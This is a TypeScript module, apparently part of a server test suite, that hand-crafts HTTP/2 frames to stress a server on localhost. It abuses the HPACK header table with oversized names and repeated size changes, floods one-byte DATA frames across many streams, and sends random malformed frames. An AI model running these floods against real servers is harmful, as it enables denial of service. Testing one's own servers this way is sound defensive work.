/** Attacks over HTTP/2, by frames that are made by hand. */
import type { TLSSocket } from 'node:tls';
import { closed, several } from '../client.ts';
import type { Random } from '../random.ts';
import type { AttackContext } from '../suite.ts';
import { dial, writeUntilClosed } from './client.ts';

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const DATA = 0;
const HEADERS = 1;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;
const MOST = 16_384;
/** `:method: GET`, `:scheme: https`, `:path: /`, `:authority: localhost`. */
const GET = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, 9]), Buffer.from('localhost')]);
/** The same with POST. */
const POST = Buffer.concat([
  Buffer.from([0x83, 0x87, 0x04, 5]),
  Buffer.from('/deaf'),
  Buffer.from([0x01, 9]),
  Buffer.from('localhost'),
]);

function frame(type: number, flags: number, id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}

/** A head in as many frames as it takes. */
function headOf(id: number, block: Buffer): Buffer {
  const frames: Buffer[] = [];
  for (let at = 0; at === 0 || at < block.length; at += MOST) {
    const part = block.subarray(at, at + MOST);
    const last = at + MOST >= block.length ? END_HEADERS : 0;
    frames.push(frame(at === 0 ? HEADERS : CONTINUATION, last | (at === 0 ? END_STREAM : 0), id, part));
  }
  return Buffer.concat(frames);
}

/** A connection that has said its preface and takes no bodies. */
async function open(signal: AbortSignal, window: number): Promise<TLSSocket | undefined> {
  const socket = await dial('h2', signal);
  if (socket === undefined) return undefined;
  const settings = Buffer.from([0, 4, 0, 0, 0, 0]);
  settings.writeUInt32BE(window, 2);
  socket.resume();
  socket.write(Buffer.concat([Buffer.from(PREFACE), frame(4, 0, 0, settings)]));
  return socket;
}

/** One field of 4,000 bytes of name goes into the table; then literals with that name, of two bytes each. */
export async function tableNames({ signal }: AttackContext): Promise<void> {
  const name = Buffer.alloc(3900, 'n');
  const length = Buffer.from([127, ((name.length - 127) & 127) | 128, (name.length - 127) >> 7]);
  const first = Buffer.concat([GET, Buffer.from([0x40]), length, name, Buffer.from([0])]);
  const again = Buffer.from([0x7e, 0]);
  await heads(signal, Buffer.concat([first, ...Array.from({ length: 12_000 }, () => again)]));
}

/** Thousands of changes of the table's size before a head's first field. */
export async function tableResizes({ signal }: AttackContext): Promise<void> {
  await heads(signal, Buffer.concat([Buffer.alloc(16_000, 0x20), GET]));
}

/** The same head on one stream after the other, on four connections. */
async function heads(signal: AbortSignal, block: Buffer): Promise<void> {
  await several(4, async () => {
    const socket = await open(signal, 65_535);
    if (socket === undefined) return;
    let id = 1;
    await writeUntilClosed(socket, signal, () => headOf((id += 2), block));
  });
}

/** Bodies in frames of one byte for an application that reads none of it. */
export async function oneByteData({ signal }: AttackContext): Promise<void> {
  await several(4, async () => {
    const socket = await open(signal, 65_535);
    if (socket === undefined) return;
    const ids = Array.from({ length: 100 }, (_, index) => 1 + 2 * index);
    socket.write(Buffer.concat(ids.map((id) => frame(HEADERS, END_HEADERS, id, POST))));
    const byte = Buffer.from('x');
    const all = Buffer.concat(ids.flatMap((id) => Array.from({ length: 20 }, () => frame(DATA, 0, id, byte))));
    await writeUntilClosed(socket, signal, () => all);
    await closed(socket, signal);
  });
}

/** Frames of any type, mostly with a payload that suits it. */
export async function manyFrames({ random, signal }: AttackContext): Promise<void> {
  await several(20, async () => {
    const socket = await open(signal, random.pick([0, 1, 65_535]));
    if (socket === undefined) return;
    let id = 1;
    for (let each = 0; each < 200 && !socket.destroyed && !signal.aborted; each++) {
      socket.write(anyFrame(random, id));
      if (random.chance(0.3)) id += 2;
      if (random.chance(0.1)) await new Promise(setImmediate);
    }
    socket.destroy();
  });
}

function anyFrame(random: Random, id: number): Buffer {
  if (random.chance(0.4)) return headOf(id, random.chance(0.5) ? GET : POST);
  const type = random.below(11);
  const suits = type === 4 ? 6 * random.below(3) : [0, 0, 5, 4, 0, 8, 8, 8, 4, 0, 0][type]!;
  const length = random.chance(0.8) ? suits || random.below(40) : random.below(300);
  const payload = random.bytes(length);
  // A window that grows by a little is legal, and what anything else would mean nobody waits for.
  if (type === 8 && length === 4) payload.writeUInt32BE(random.below(1000));
  return frame(type, random.below(64), random.chance(0.2) ? 0 : id, payload);
}
